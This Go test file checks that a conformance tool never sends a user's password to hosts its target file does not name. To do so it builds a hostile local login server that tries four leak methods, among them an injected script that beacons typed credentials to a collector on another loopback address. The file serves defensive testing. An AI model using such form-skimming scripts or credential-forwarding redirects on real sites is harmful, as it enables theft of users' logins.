package suite

import (
	"bytes"
	"context"
	"crypto/tls"
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/toets/toets/features"
	"github.com/toets/toets/internal/embedded"
	"github.com/toets/toets/internal/preflight"
	"github.com/toets/toets/internal/runner"
	"github.com/toets/toets/internal/target"
	"github.com/toets/toets/reports"
)

// The password must not reach a host the target file does not name, in
// the preflight or in the run, under either user agent, whatever the server
// does to send it there. A server of this test's own (on 127.0.0.1, named
// by the target file) sends it to a second listener on 127.0.0.2 (not
// named) in one of four ways; that listener decrypts and keeps every byte
// it receives. Its certificate is from the CA the browser and the target
// file trust, so a guard that let the request through would deliver the
// password there, and this test would see it.

// leakMode is how the server tries to send the password elsewhere.
type leakMode string

const (
	loginThere    leakMode = "login-page-there"    // the authorization endpoint redirects to a login page on the other host
	formThere     leakMode = "form-action-there"   // the login form's action is on the other host
	redirectThere leakMode = "307-of-login-there"  // the login's POST is answered with 307 to the other host
	beaconThere   leakMode = "script-beacon-there" // a script of the login page sends the typed values there
)

// leakPassword is the test user's password: letters and digits only, so it
// reads the same in every encoding a request could carry it in.
const leakPassword = "Lekwachtwoord7Qx2"

// leakServer is the named server and the collector on the other host.
type leakServer struct {
	mode      leakMode
	named     *http.Server
	namedURL  string
	other     *http.Server
	otherURL  string
	collected *byteLog
}

// byteLog is every byte a listener received: raw counts the bytes on the
// wire, plain the bytes after TLS.
type byteLog struct {
	mu    sync.Mutex
	raw   int
	plain bytes.Buffer
}

func (b *byteLog) snapshot() (int, string) {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.raw, b.plain.String()
}

// countingConn counts what arrives on the wire; plainConn keeps what TLS
// decrypted.
type countingConn struct {
	net.Conn
	log *byteLog
}

func (c countingConn) Read(p []byte) (int, error) {
	n, err := c.Conn.Read(p)
	c.log.mu.Lock()
	c.log.raw += n
	c.log.mu.Unlock()
	return n, err
}

type plainConn struct {
	*tls.Conn
	log *byteLog
}

func (c plainConn) Read(p []byte) (int, error) {
	n, err := c.Conn.Read(p)
	c.log.mu.Lock()
	c.log.plain.Write(p[:n])
	c.log.mu.Unlock()
	return n, err
}

// recordingListener hands out connections whose every byte is kept.
type recordingListener struct {
	net.Listener
	cfg *tls.Config
	log *byteLog
}

func (l recordingListener) Accept() (net.Conn, error) {
	c, err := l.Listener.Accept()
	if err != nil {
		return nil, err
	}
	return plainConn{tls.Server(countingConn{c, l.log}, l.cfg), l.log}, nil
}

func startLeakServer(t *testing.T, mode leakMode) *leakServer {
	t.Helper()
	ca, err := embedded.CA()
	if err != nil {
		t.Fatal(err)
	}
	otherLn, err := net.Listen("tcp", "127.0.0.2:0")
	if err != nil {
		t.Skipf("no second loopback address: %v", err)
	}
	otherTLS, err := ca.ServerTLS(net.IPv4(127, 0, 0, 2))
	if err != nil {
		t.Fatal(err)
	}
	s := &leakServer{mode: mode, collected: &byteLog{}, otherURL: "https://" + otherLn.Addr().String()}
	s.other = &http.Server{Handler: http.HandlerFunc(s.collect), ReadHeaderTimeout: 5 * time.Second}
	go s.other.Serve(recordingListener{otherLn, otherTLS, s.collected})

	namedLn, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	namedTLS, err := ca.ServerTLS(net.IPv4(127, 0, 0, 1))
	if err != nil {
		t.Fatal(err)
	}
	s.namedURL = "https://" + namedLn.Addr().String()
	mux := http.NewServeMux()
	mux.HandleFunc("GET /.well-known/oauth-authorization-server", s.metadata)
	mux.HandleFunc("GET /authorize", s.authorize)
	mux.HandleFunc("POST /login", s.login)
	mux.HandleFunc("POST /consent", s.consent)
	mux.HandleFunc("/token", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(http.StatusBadRequest)
		fmt.Fprint(w, `{"error":"invalid_grant"}`)
	})
	s.named = &http.Server{Handler: mux, TLSConfig: namedTLS, ReadHeaderTimeout: 5 * time.Second}
	go s.named.ServeTLS(namedLn, "", "")
	t.Cleanup(func() {
		s.named.Close()
		s.other.Close()
	})
	return s
}

func (s *leakServer) metadata(w http.ResponseWriter, r *http.Request) {
	w.Header().Set("Content-Type", "application/json")
	json.NewEncoder(w).Encode(map[string]any{
		"issuer":                           s.namedURL,
		"authorization_endpoint":           s.namedURL + "/authorize",
		"token_endpoint":                   s.namedURL + "/token",
		"response_types_supported":         []string{"code"},
		"code_challenge_methods_supported": []string{"S256"},
	})
}

// loginPage is a login form posting to action, carrying the request's
// redirect_uri and state on.
func loginPage(w http.ResponseWriter, action string, q url.Values, script string) {
	w.Header().Set("Content-Type", "text/html; charset=utf-8")
	fmt.Fprintf(w, `<!doctype html><title>Inloggen</title><form method="post" action="%s">`+
		`<input type="hidden" name="redirect_uri" value="%s"><input type="hidden" name="state" value="%s">`+
		`<input id="username" name="username"><input id="password" name="password" type="password">`+
		`<button id="login" type="submit">Inloggen</button></form>%s`,
		action, q.Get("redirect_uri"), q.Get("state"), script)
}

func (s *leakServer) authorize(w http.ResponseWriter, r *http.Request) {
	q := r.URL.Query()
	switch s.mode {
	case loginThere:
		http.Redirect(w, r, s.otherURL+"/login?"+r.URL.RawQuery, http.StatusFound)
	case formThere:
		loginPage(w, s.otherURL+"/collect", q, "")
	case beaconThere:
		loginPage(w, "/login", q, `<script>document.querySelector("form").addEventListener("submit", function (e) {`+
			`navigator.sendBeacon("`+s.otherURL+`/collect", new URLSearchParams(new FormData(e.target))); });</script>`)
	default:
		loginPage(w, "/login", q, "")
	}
}

// login takes the password: the 307 mode sends the post on to the other
// host; the others show a consent page.
func (s *leakServer) login(w http.ResponseWriter, r *http.Request) {
	if s.mode == redirectThere {
		http.Redirect(w, r, s.otherURL+"/collect", http.StatusTemporaryRedirect)
		return
	}
	r.ParseForm()
	w.Header().Set("Content-Type", "text/html; charset=utf-8")
	fmt.Fprintf(w, `<!doctype html><title>Toestemming</title><form method="post" action="/consent">`+
		`<input type="hidden" name="redirect_uri" value="%s"><input type="hidden" name="state" value="%s">`+
		`<button id="approve" name="action" value="approve">Ja</button><button id="deny" name="action" value="deny">Nee</button></form>`,
		r.PostForm.Get("redirect_uri"), r.PostForm.Get("state"))
}

func (s *leakServer) consent(w http.ResponseWriter, r *http.Request) {
	r.ParseForm()
	http.Redirect(w, r, r.PostForm.Get("redirect_uri")+"?code=leak-test-code-0123456789&state="+url.QueryEscape(r.PostForm.Get("state")), http.StatusFound)
}

// collect is the other host: a login page (for loginThere) and a sink.
func (s *leakServer) collect(w http.ResponseWriter, r *http.Request) {
	if r.Method == http.MethodGet && r.URL.Path == "/login" {
		loginPage(w, "/collect", r.URL.Query(), "")
		return
	}
	w.WriteHeader(http.StatusNoContent)
}

// target writes the target file for the server with the given agent.
func (s *leakServer) target(t *testing.T, agent string) *target.Target {
	t.Helper()
	ca, err := embedded.CA()
	if err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	for name, content := range map[string][]byte{
		"ca.pem": ca.CertPEM(), "client.secret": []byte("leak-test-client-secret"), "user.password": []byte(leakPassword),
	} {
		if err := os.WriteFile(filepath.Join(dir, name), content, 0o600); err != nil {
			t.Fatal(err)
		}
	}
	yaml := strings.NewReplacer("ISSUER", s.namedURL, "AGENT", agent).Replace(`name: leak
profile: medmij
agent: AGENT
issuer: ISSUER
resource: {url: ISSUER/resource}
tls: {ca_file: ca.pem}
clients:
  - {name: one, client_id: pgo-one.toets.invalid, auth_method: client_secret_basic, secret: "file:client.secret", redirect_uri: "https://pgo-one.toets.invalid/callback"}
users:
  - {name: alice, username: alice.leak, password: "file:user.password", has_data: true, display_name: Alice Leak}
scopes: {granted: eenofanderezorgaanbieder}
browser:
  login:
    - {do: fill, css: "#username", value: "{username}"}
    - {do: fill, css: "#password", value: "{password}"}
    - {do: click, css: "#login"}
  approve: [{do: click, css: "#approve"}]
  deny: [{do: click, css: "#deny"}]
`)
	path := filepath.Join(dir, "target.yaml")
	if err := os.WriteFile(path, []byte(yaml), 0o600); err != nil {
		t.Fatal(err)
	}
	f, err := target.Load(path)
	if err != nil {
		t.Fatal(err)
	}
	tgt, err := target.Resolve(f, path)
	if err != nil {
		t.Fatal(err)
	}
	return tgt
}

// assertNothingLeaked: not one byte of the password reached the other
// host; under the HTTP agent, which sends nothing to an unnamed host, not
// one byte at all.
func (s *leakServer) assertNothingLeaked(t *testing.T, agent string) {
	t.Helper()
	raw, plain := s.collected.snapshot()
	if strings.Contains(plain, leakPassword) {
		t.Errorf("the password reached %s, a host the target file does not name:\n%s", s.otherURL, plain)
	}
	if agent == "http" && raw > 0 {
		t.Errorf("the HTTP agent sent %d bytes to %s, a host the target file does not name:\n%s", raw, s.otherURL, plain)
	}
}

// TestPasswordNeverLeavesForUnnamedHosts is issue 11's acceptance test.
func TestPasswordNeverLeavesForUnnamedHosts(t *testing.T) {
	cases := []struct {
		mode leakMode
		// preflight is what the preflight's login problem says; run what
		// the failed scenario's message says.
		preflight, run string
		// rules are the rules the run checks; each must fail.
		rules       []string
		browserOnly bool
	}{
		{loginThere, "the login page is at https://127.0.0.2:", "127.0.0.2:", []string{"authz-login-credentials-stay"}, false},
		{formThere, "POST https://127.0.0.2:", "POST https://127.0.0.2:", []string{"authz-login-credentials-stay"}, false},
		{redirectThere, "(redirect, after HTTP 307)", "(redirect, after HTTP 307)", []string{"authz-login-credentials-stay", "authz-login-no-307"}, false},
		{beaconThere, "(beacon)", "(beacon)", []string{"authz-login-credentials-stay"}, true},
	}
	for _, agent := range []string{"browser", "http"} {
		for _, c := range cases {
			if c.browserOnly && agent == "http" {
				continue // the HTTP agent runs no script: there is no beacon
			}
			t.Run(agent+"/"+string(c.mode), func(t *testing.T) {
				t.Run("preflight", func(t *testing.T) {
					s := startLeakServer(t, c.mode)
					r := preflight.Check(context.Background(), preflight.Options{Target: s.target(t, agent), Browser: sharedBrowser, Timeout: 5 * time.Second})
					var out bytes.Buffer
					r.Write(&out, "target.yaml")
					found := false
					for _, p := range r.Problems {
						found = found || (p.Check == "login" && strings.Contains(p.Message, c.preflight) && strings.Contains(p.Message, "browser.hosts"))
					}
					if !found {
						t.Errorf("the preflight should name a login problem saying %q:\n%s", c.preflight, out.String())
					}
					if strings.Contains(out.String(), leakPassword) {
						t.Errorf("the preflight's report shows the password")
					}
					s.assertNothingLeaked(t, agent)
				})
				t.Run("control", func(t *testing.T) {
					// With the other host named, the same server does
					// deliver the password there: the collector would see
					// a leak, so its silence above means something.
					s := startLeakServer(t, c.mode)
					tgt := s.target(t, agent)
					u, _ := url.Parse(s.otherURL)
					tgt.File.Browser.Hosts = append(tgt.File.Browser.Hosts, u.Host)
					preflight.Check(context.Background(), preflight.Options{Target: tgt, Browser: sharedBrowser, Timeout: 5 * time.Second})
					deadline := time.Now().Add(5 * time.Second)
					for {
						// A beacon may still be on its way when the login
						// check returns.
						if _, plain := s.collected.snapshot(); strings.Contains(plain, leakPassword) {
							return
						}
						if time.Now().After(deadline) {
							t.Fatalf("with %s named, the password never reached it: the collector proves nothing", s.otherURL)
						}
						time.Sleep(50 * time.Millisecond)
					}
				})
				t.Run("run", func(t *testing.T) {
					s := startLeakServer(t, c.mode)
					tags := "@rule:" + strings.Join(c.rules, ",@rule:")
					run, red, err := runner.Run(context.Background(), runner.Config{
						Target: s.target(t, agent), Features: features.FS, Tags: tags, Browser: sharedBrowser,
						RequestTimeout: 5 * time.Second, ScenarioTimeout: 30 * time.Second,
					})
					if err != nil {
						t.Fatal(err)
					}
					failed := map[string]bool{}
					for _, sc := range run.Scenarios {
						if sc.Verdict != reports.Fail {
							t.Errorf("%s %q: verdict %s, want fail\n%s", sc.Rule.ID, sc.Name, sc.Verdict, sc.Message)
							continue
						}
						failed[sc.Rule.ID] = true
						if !strings.Contains(sc.Message, c.run) {
							t.Errorf("%s: the message should name what was stopped (%q):\n%s", sc.Rule.ID, c.run, sc.Message)
						}
					}
					for _, id := range c.rules {
						if !failed[id] {
							t.Errorf("rule %s did not fail\n%s", id, describe(run))
						}
					}
					dir := t.TempDir()
					if _, err := reports.WriteAll(dir, run.Redacted(red.String)); err != nil {
						t.Fatal(err)
					}
					assertNoSecrets(t, dir, []string{leakPassword}, 1)
					s.assertNothingLeaked(t, agent)
				})
			})
		}
	}
}
